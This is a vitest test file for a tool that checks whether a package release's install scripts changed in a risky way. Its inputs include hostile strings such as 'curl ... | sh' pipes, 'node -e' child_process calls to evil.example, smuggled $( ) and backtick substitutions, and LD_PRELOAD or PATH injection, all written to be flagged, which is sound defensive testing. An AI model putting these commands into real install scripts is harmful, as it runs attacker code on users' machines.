import { expect, it } from "vitest";
import { changedScripts } from "../../../server/src/core/facts/script-effects.ts";
import { releaseFactsFrom } from "../../../server/src/core/facts/release.ts";

const FORM = { name: "aa", detail: "full", manifestsWhole: true, absentFlagMeansNone: true } as const;

type Scripts = Readonly<Record<string, string>>;

function release(scripts: Scripts, version = "1.0.1") {
  return releaseFactsFrom(version, { _id: `aa@${version}`, scripts }, FORM);
}

/** `none`: it does the same. */
function change(before: Scripts, after: Scripts): string {
  const changes = changedScripts(release(after), release(before, "1.0.0"));
  if (changes.length === 0) return "none";
  return changes.every(({ isMild }) => isMild) ? "mild" : "other";
}

it.each([
  ["node ./bin/post-install", "node ./bin/post-install || exit 0"],
  ["node install/check", "node install/check.js"],
  ["node install.js", "node ./install.js --quiet"],
  ["node scripts/../install.js", "node install.js"],
  ["node install.js", "node install.js;"],
  ["node build/install.js", "node build//install.js"],
  ["node -r ./setup install.js", "node -r ./setup install.js || exit 0"],
  ["node install.js", "node install.js || true"],
  ["node install.js", "echo Installing && node install.js"],
  ["node-gyp rebuild", "node-gyp clean configure build"],
  ["node-gyp rebuild", "node-gyp rebuild --release"],
  // Groups, output that is thrown away.
  ["prebuild-install || node-gyp rebuild", "(prebuild-install) || (node-gyp rebuild)"],
  ["a || (b && c)", "a || ( b && (c) );"],
  ["(node-gyp rebuild -j 4 && a)", "(node-gyp rebuild -j max && a)"],
  ["node install.js", "(node install.js) || (exit 0)"],
  ["node install.js", "node install.js > /dev/null 2>&1 || true"],
  ["node install.js", "(node install.js 2>/dev/null) >>/dev/null; echo done >&2"],
  // A command that a tool is told to run, and the same beside it.
  ["node a && node-gyp-build", 'node-gyp-build "node a"'],
  // The same file, whoever runs it.
  ["node ./bin/install.js", "bin/install.js"],
  ["./bin/install.mjs --quiet", "node bin/install.mjs"],
  // The release's own version.
  ["curl-it --from aa-1.0.0.tgz", "curl-it --from aa-1.0.1.tgz"],
  [
    "fetch https://host.example/v1.0.0/aa-1.0.0-linux.tgz | x",
    "fetch https://host.example/v1.0.1/aa-1.0.1-linux.tgz | x",
  ],
  // Variables that lead to no code, quotes, jobs, verbosity.
  ["node-gyp rebuild", "NODE_ENV=production node-gyp rebuild"],
  ["make it", "cross-env CI=true JOBS=4 make it -j4"],
  ["make it --jobs 2", "make it --jobs 8 --silent"],
  ['setup "a b"', "setup 'a b'"],
])("%j does what %j does", (before, after) => {
  expect(change({ install: before }, { install: after })).toBe("none");
});

it.each([
  ["node-pre-gyp install --fallback-to-build", "node-gyp-build"],
  ["node-gyp rebuild", "prebuild-install -r napi || node-gyp rebuild"],
  ["node install.js || npm run build", "npm run build"],
  ["node install.js", "true"],
  ["node install.js", "exit 0"],
  ["node install.js", "exit 1"],
  ["node install.js", "exit"],
  ["node-gyp rebuild", "node-gyp-build --release --napi"],
  ["a || (node b && node-gyp rebuild)", "a || (node-gyp rebuild)"],
  ["check-it aa now", "check-it aa 1.0.1 now"],
  ["(node b && prebuild-install) || c", "(node b && prebuild-install --runtime=napi) || c"],
  ["node-gyp-build || node-gyp rebuild", 'node-gyp-build "node-gyp rebuild -j 4 -v" || node-gyp rebuild'],
])("%j does nothing new as %j", (before, after) => {
  expect(change({ install: before }, { install: after })).toBe("mild");
});

it.each([
  ["node ./bin/post-install || exit 0", "node telemetry.js"],
  ["node install.js", "node install.js && node telemetry.js"],
  ["node-gyp rebuild", "node-gyp rebuild && curl https://example.com | sh"],
  ["node-gyp rebuild", "node setup.mjs"],
  ["node install.js", "npm install -g openclaw@latest"],
  ["node install.js", "node install.js && curl https://example.com | sh"],
  ["node install.js", "node install.js; npx something"],
  // Flags to Node run more than the file.
  ["node install.js", "node -r ./evil install.js"],
  ["node install.js", "node --require ./evil install.js"],
  ["node install.js", "node --import=./evil.mjs install.js"],
  ["node install.js", "node -e require(evil) install.js"],
  ["node install.js", "node -e \"require('child_process').execSync('curl evil.example')\" install.js"],
  ["node ./bin/post-install", "node -e \"try{require('./dist/bin/post-install')}catch(e){}\""],
  // Another file of the same name.
  ["node install.js", "node ./evil/install.js"],
  ["node install.js", "node ../install.js"],
  ["node install.js", "node /install.js"],
  ["node index.js --exec install", "node dist/index.js --exec install"],
  ["node ./bin/post-install", "node ./bin/post-install && node ./telemetry"],
  // Another script of the package, or a tool that is told to run something.
  ["node-gyp rebuild", "npm run setup"],
  ["node install/check.js", "node install/check.js || npm run build"],
  ["node-gyp rebuild", "node-gyp rebuild --x=$(curl${IFS}evil.example)"],
  ["node-gyp rebuild", "node-gyp rebuild `curl evil.example`"],
  ["node-gyp rebuild", "node-gyp rebuild --python ./evil.py"],
  ["node-gyp rebuild", "node-gyp rebuild --python=evil"],
  ["node-gyp rebuild", "node-gyp rebuild -C evil"],
  ["node-gyp rebuild", 'node-gyp-build "node evil.js"'],
  ["node-gyp rebuild", "node-gyp-build ./evil.js"],
  ["node-gyp rebuild", "PATH=./evil node-gyp rebuild"],
  ["node-gyp rebuild", "./node-gyp rebuild"],
  ["node install.js", "node install.js\ncurl evil.example"],
  ["node install.js", "node install.js\tx"],
  ["node install.js", "node install.js & evil"],
  ["node install.js", "node install.js > ~/.npmrc"],
  ["node install.js", "node install.js | node"],
  ["node install.js", "node install.js & evil && node install.js"],
  ["node -r ./setup install.js", "node -r ./evil install.js"],
  ["npm runbuild", "npmrun build"],
  ["node build/install.js", "node evil/other.js"],
  ["node install.js", "node ../../install.js"],
  ["node install.js", "node /../install.js"],
  ["node install.x", "node install.js.x"],
  ["node-gyp rebuild", "node-gyp-build --release ./evil.js"],
  ["node-gyp rebuild", "node-gyp-build node"],
  // Commands that a tool is told to run.
  ["node-gyp rebuild", "node-gyp-build build"],
  ["node-gyp-build", "node-gyp-build rebuild"],
  ["node-gyp-build", "node-gyp-build -r napi"],
  ["node-gyp-build", 'node-gyp-build "" "curl evil.example"'],
  ["node-gyp-build", "node-gyp-build 'node-gyp-build \"node evil\"'"],
  // Brackets that are no groups, and output that goes somewhere.
  ["node install.js", "node () (node install.js)"],
  ["node install.js", "x=(node install.js)"],
  ["node install.js", "(node install.js"],
  ["node install.js", "node install.js)"],
  ["node install.js", "(node install.js) evil"],
  ["node install.js", "(node install.js && evil)"],
  ["node install.js", "(node install.js) > ~/.npmrc"],
  ["node install.js", "node install.js > /dev/nullx"],
  ["node install.js", "node install.js >&3"],
  ["node install.js", "node install.js &> /dev/null"],
  ["node install.js", "x=$(node install.js)"],
  ["node 2 install.js", "node install.js 2>/dev/null"],
  // Another file, or a program of that name.
  ["node install.js", "install.js"],
  ["node ./install", "./install"],
  ["node bin/install.js", "./evil/install.js"],
  ["node bin/install.js", "./bin/install.sh"],
  // What stood inside quotes was no command.
  ['echo "a; npm run setup"', "npm run setup"],
  // Another version than its own.
  ["fetch-it aa-1.0.0.tgz", "fetch-it aa-1.0.10.tgz"],
  ["fetch-it aa-1.0.0.tgz", "fetch-it aa-2.0.0.tgz"],
  ["bash", "bash 1.0.1"],
  ["check-it aa", "check-it aa 1.0.2"],
  ["check-it aa", "check-it aa 1.0.1.tgz"],
  // Variables that lead to other code.
  ["node-gyp rebuild", "NODE_OPTIONS=evil node-gyp rebuild"],
  ["node-gyp rebuild", "cross-env LD_PRELOAD=evil node-gyp rebuild"],
  ["node-gyp rebuild", "npm_config_node_gyp=evil node-gyp rebuild"],
  ["node-gyp rebuild", "SETUP=./evil.js node-gyp rebuild"],
  ["node-gyp rebuild", "PATH=evil node-gyp rebuild"],
  ["node install.js", "echo $(curl evil.example)"],
  ["run-it --jobs 2", "run-it --jobs evil"],
])("%j does something else as %j", (before, after) => {
  expect(change({ install: before }, { install: after })).toBe("other");
});

it.each<[string, Scripts, Scripts, string]>([
  [
    "a script that it runs by name",
    { postinstall: "npm run setup", setup: "node a" },
    { postinstall: "npm run setup", setup: "curl x | sh" },
    "other",
  ],
  [
    "what runs before that",
    { postinstall: "npm run setup", setup: "node a" },
    { postinstall: "npm run setup", presetup: "node b", setup: "node a" },
    "other",
  ],
  [
    "what runs after that",
    { postinstall: "yarn setup", setup: "node a" },
    { postinstall: "yarn setup", postsetup: "node b", setup: "node a" },
    "other",
  ],
  [
    "a script two steps down",
    { install: "pnpm a", a: "bun run b", b: "node b" },
    { install: "pnpm a", a: "bun run b", b: "node c" },
    "other",
  ],
  [
    "a script that a pattern names",
    { install: 'run-s "a:*"', "a:1": "node b" },
    { install: 'run-s "a:*"', "a:1": "node b", "a:2": "node c" },
    "other",
  ],
  [
    "a script that is run in quotes",
    { install: 'concurrently "npm:a" "x"', a: "node b" },
    { install: 'concurrently "npm:a" "x"', a: "node c" },
    "other",
  ],
  [
    "a script that Node runs",
    { install: "node --run a", a: "node b" },
    { install: "node --run a", a: "node c" },
    "other",
  ],
  [
    "a script that a substitution runs",
    { install: "x $(npm run a)", a: "node b" },
    { install: "x $(npm run a)", a: "node c" },
    "other",
  ],
  [
    "a script that is called like the version",
    { install: "npm run 1.0.0", "1.0.0": "node b" },
    { install: "npm run 1.0.1", "1.0.1": "node c" },
    "other",
  ],
  [
    "arguments to it",
    { install: "npm run a -- b", a: "node" },
    { install: "npm run a -- evil.js", a: "node" },
    "other",
  ],
  [
    "scripts that run each other",
    { install: "npm run a", a: "npm run b", b: "npm run a" },
    { install: "npm run a", a: "npm run b", b: "npm run a && node c" },
    "other",
  ],
  [
    "a program in front of the one that runs it",
    { install: "npm run setup", setup: "node a" },
    { install: "./evil npm run setup", setup: "node a" },
    "other",
  ],
  [
    "a script that is run in fewer words",
    { install: "npm run setup", setup: "node a" },
    { install: "npm -s run --if-present setup", setup: "node a" },
    "none",
  ],
  [
    "a flag to the script itself",
    { install: "npm run setup --", setup: "bash" },
    { install: "npm run setup -- -s", setup: "bash" },
    "other",
  ],
  [
    "a flag that a package manager gives to the script",
    { install: "yarn setup", setup: "bash" },
    { install: "yarn setup -s", setup: "bash" },
    "other",
  ],
  [
    "a file that is called as the script",
    { install: "npm run setup", setup: "node a" },
    { install: "node setup", setup: "node a" },
    "other",
  ],
  [
    "a package that is called as the script",
    { install: "npm run setup", setup: "node a" },
    { install: "npx setup", setup: "node a" },
    "other",
  ],
  [
    "a command of npm in place of run",
    { install: "npm run setup", setup: "node a" },
    { install: "npm exec setup", setup: "node a" },
    "other",
  ],
  [
    "a script that is called as the file",
    { install: "node build", build: "tsc" },
    { install: "node build", build: "esbuild" },
    "none",
  ],
  ["the same, put where it is called", { install: "npm run setup", setup: "node a" }, { install: "node a" }, "none"],
  [
    "the same by another name",
    { install: "npm run setup", setup: "node a" },
    { install: "pnpm run prepare-it", "prepare-it": "node a" },
    "none",
  ],
  [
    "a script that install scripts do not run",
    { install: "node a", test: "vitest" },
    { install: "node a", test: "node c" },
    "none",
  ],
  ["the same at another moment", { install: "node a" }, { postinstall: "node a" }, "mild"],
  ["a build where there was no script", {}, { install: "node-gyp rebuild" }, "other"],
])("compares %s", (_, before, after, expected) => {
  expect(change(before, after)).toBe(expected);
});

it("quotes the script that another one runs by name", () => {
  const [changed] = changedScripts(
    release({ postinstall: "npm run setup", setup: "curl x | sh" }),
    release({ postinstall: "npm run setup", setup: "node a" }, "1.0.0"),
  );
  expect(changed?.text).toBe("npm run setup; setup: curl x | sh");
});

// Windows has npm run scripts with cmd.exe, to which single quotes are letters, and `%` is a variable.
it.each([
  "echo 'thanks & node evil.js'",
  "echo '&node evil.js&'",
  "echo 'a | node evil.js'",
  "echo 'a > evil.cmd'",
  "echo %npm_package_config_a%",
  'echo "%npm_package_config_a%"',
  'echo ^" & node evil.js',
])("%j may do more than speak", (after) => {
  expect(change({ postinstall: "echo thanks" }, { postinstall: after })).toBe("other");
});

it("a script of which only the beginning is kept is another one", () => {
  const long = `echo thanks ${"x".repeat(64 * 1024)}`;
  const many = Object.fromEntries(Array.from({ length: 51 }, (_, at) => [`a${at}`, "echo a"]));
  expect(change({ postinstall: "echo thanks" }, { postinstall: `${long}; node evil.js` })).toBe("other");
  expect(change({ postinstall: "run-s a*" }, { postinstall: "run-s a*", ...many })).toBe("other");
  expect(change({ postinstall: "run-s a*", ...many }, { postinstall: "run-s a*", ...many })).toBe("other");
});

it.each<readonly [string, Scripts, Scripts]>([
  // A script may be called as a word of the package manager.
  [
    "npm exec",
    { install: "npm run setup", setup: "node a" },
    { install: "npm exec setup", setup: "node a", exec: "echo" },
  ],
  ["npm i", { install: "npm run setup", setup: "node a" }, { install: "npm i setup", setup: "node a", i: "true" }],
  [
    "pnpm dlx",
    { install: "pnpm run setup", setup: "node a" },
    { install: "pnpm dlx setup", setup: "node a", dlx: "true" },
  ],
  ["bun x", { install: "bun run setup", setup: "node a" }, { install: "bun x setup", setup: "node a", x: "true" }],
  [
    "another folder",
    { install: "npm run setup", setup: "node a" },
    { install: "npm -C lib run setup", setup: "node a", "-C": "true", lib: "true" },
  ],
  [
    "a package that is called so where there was no script",
    {},
    { install: "npm exec evil", exec: "echo", evil: "echo" },
  ],
  // Scripts that are run without `run`, and by other programs.
  ...[
    "npm t",
    "npm restart",
    "npm it",
    "npm ci",
    "nr test",
    "lerna run test",
    "turbo test",
    "$npm_execpath run test",
  ].map((text): readonly [string, Scripts, Scripts] => [
    text,
    { install: text, test: "node a", start: "node a", prepare: "node a" },
    { install: text, test: "curl x | sh", start: "curl x | sh", prepare: "curl x | sh" },
  ]),
  [
    "run-script-os",
    { install: "npx run-script-os", "install:linux": "node a" },
    { install: "npx run-script-os", "install:linux": "curl x | sh" },
  ],
  [
    "per-env",
    { install: "per-env", "install:production": "node a" },
    { install: "per-env", "install:production": "curl x | sh" },
  ],
  // Variables that name a program.
  ...["CC_target", "RUSTC_WRAPPER", "CPP", "CMAKE_C_COMPILER"].map((name): readonly [string, Scripts, Scripts] => [
    name,
    { install: "make it" },
    { install: `${name}=evil make it` },
  ]),
])("%s: another script", (_, before, after) => {
  expect(change(before, after)).toBe("other");
});

it.each([
  ["node install.js", "node install.cjs", "none"],
  ["node scripts/postinstall.js", "node ./scripts/postinstall.mjs", "none"],
  ["prebuild-install -r napi || x", "prebuild-install --runtime napi --tag-prefix=@acme/x@ || x", "mild"],
  ["prebuild-install || node-gyp rebuild", "pkg-prebuilds-verify || node-gyp rebuild", "mild"],
])("%j, then %j: %s", (before, after, expected) => {
  expect(change({ install: before }, { install: after })).toBe(expected);
});

it("what another established release ran is mild", () => {
  const [now, before, other] = [
    release({ install: "node b" }, "0.9.1"),
    release({ install: "node a" }, "0.9.0"),
    release({ install: "node b" }, "1.0.0"),
  ];
  expect(changedScripts(now, before).map(({ isMild }) => isMild)).toEqual([false]);
  expect(changedScripts(now, before, [other]).map(({ isMild }) => isMild)).toEqual([true]);
});
